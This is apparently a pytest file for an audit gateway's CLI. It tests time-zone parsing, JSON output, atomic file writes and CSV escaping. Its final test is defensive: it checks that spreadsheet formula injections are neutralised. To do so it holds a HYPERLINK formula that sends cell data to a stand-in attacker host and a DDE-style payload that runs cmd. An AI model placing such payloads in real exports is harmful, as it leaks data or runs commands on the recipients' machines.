"""What `--since`/`--until`/`--tz` accept and mean, and what the investigation commands write:
times exact in any zone, no bare number guessed, JSON that `json.load` reads, files whole or
untouched."""

from __future__ import annotations

import datetime as dt
import io
import json
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.audit.query import parse_time
from gateway.cli import output, times

NOW = dt.datetime(2026, 12, 4, 21, 30, tzinfo=dt.UTC)  # set here: no wall-clock dependence
MOSCOW = ZoneInfo("Europe/Moscow")


@given(st.integers(min_value=0, max_value=10**18))
def test_a_bare_number_is_refused_with_the_units_to_use(n: int) -> None:
    with pytest.raises(times.TimeError) as e:
        times.parse_when(str(n), dt.UTC, NOW)
    assert f"{n}d, {n}h or {n}m" in str(e.value) and "ISO 8601" in str(e.value)


@pytest.mark.parametrize(
    ("text", "ago"),
    [("30m", dt.timedelta(minutes=30)), ("24h", dt.timedelta(hours=24)), ("7d", dt.timedelta(7))],
)
def test_a_time_ago_counts_back_from_now(text: str, ago: dt.timedelta) -> None:
    assert times.parse_when(text, MOSCOW, NOW) == NOW - ago


def test_a_time_without_a_zone_and_a_date_are_read_in_the_given_zone() -> None:
    wall = times.parse_when("2026-12-04T09:00", MOSCOW, NOW)
    assert wall == dt.datetime(2026, 12, 4, 6, 0, tzinfo=dt.UTC)  # Moscow is UTC+3
    assert times.parse_when("2026-12-04", MOSCOW, NOW) == dt.datetime(
        2026, 12, 3, 21, 0, tzinfo=dt.UTC
    )
    zoned = times.parse_when("2026-12-04T09:00+03:00", dt.UTC, NOW)  # its own zone wins
    assert zoned == wall
    assert times.parse_when("2026-12-04T06:00Z", MOSCOW, NOW) == wall


@given(
    st.datetimes(
        min_value=dt.datetime(1971, 1, 1),
        max_value=dt.datetime(2100, 1, 1),
        timezones=st.sampled_from([dt.UTC, MOSCOW, ZoneInfo("America/New_York")]),
    )
)
def test_what_the_cli_sends_is_the_same_instant_to_the_api(t: dt.datetime) -> None:
    assert parse_time(times.for_api(t)) == int(t.timestamp() * 1_000_000)


def test_an_unknown_zone_or_time_is_refused_with_what_to_write() -> None:
    with pytest.raises(times.TimeError, match="IANA name"):
        times.zone("Mars/Olympus")
    with pytest.raises(times.TimeError, match="ISO 8601"):
        times.parse_when("yesterday", dt.UTC, NOW)


def test_the_machines_zone_is_the_default_and_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "Europe/Moscow")
    tz = times.zone(None)
    assert times.describe(tz, NOW) == "Europe/Moscow, UTC+03:00"
    assert times.show(int(NOW.timestamp() * 1e6), tz) == "2026-12-05 00:30:00"


@pytest.mark.parametrize("n", [0, 1, 3])
def test_json_is_one_array_and_ndjson_one_object_a_line(n: int) -> None:
    rows = [{"ts_us": i, "user": f"u{i}", "roles": ["r"]} for i in range(n)]
    for fmt, load in (
        ("json", json.loads),
        ("ndjson", lambda text: [json.loads(x) for x in text.splitlines()]),
    ):
        out = io.StringIO()
        w = output.Rows(out, fmt, (), dt.UTC)
        for r in rows:
            w.add(r)
        w.close()
        assert load(out.getvalue()) == rows


def test_a_file_is_replaced_only_when_the_command_succeeds(tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    target.write_text("yesterday's export\n")
    with pytest.raises(RuntimeError), output.destination(str(target)) as f:
        f.write("half of today's")
        raise RuntimeError("refused mid-way")
    assert target.read_text() == "yesterday's export\n"
    assert list(tmp_path.iterdir()) == [target]  # no temporary file left behind
    with output.destination(str(target)) as f:
        f.write("today's export\n")
    assert target.read_text() == "today's export\n"
    assert list(tmp_path.iterdir()) == [target]


def test_a_table_shows_every_value_whole() -> None:
    stored = "h:9775b099:" + "6e9004dc3d3b824bca1fef96a2a9e49a"
    out = io.StringIO()
    output.table([{"subject": stored, "ts_us": 0}], (("subject", "subject"),), out, dt.UTC)
    assert stored in out.getvalue()


def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text() -> None:
    """A recorded query is whatever a client sent: `audit export` for a regulator must not hand
    a spreadsheet `=HYPERLINK(…)` or `@SUM(…)` to run (CSV injection)."""
    import csv

    query = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    buf = io.StringIO()
    rows = output.Rows(buf, "csv", (), ZoneInfo("UTC"))
    for value in (query, "@SUM(1+1)*cmd|'/c calc'!A0", "+1", "-2", "\t=1", "a=b&c=d"):
        rows.add({"path": "/nope", "query": value, "subject_ids": []})
    rows.close()
    read = [r["query"] for r in csv.DictReader(io.StringIO(buf.getvalue()))]
    assert read[:5] == ["'" + query, "'@SUM(1+1)*cmd|'/c calc'!A0", "'+1", "'-2", "'\t=1"]
    assert read[5] == "a=b&c=d"  # text that starts with anything else is left as it is
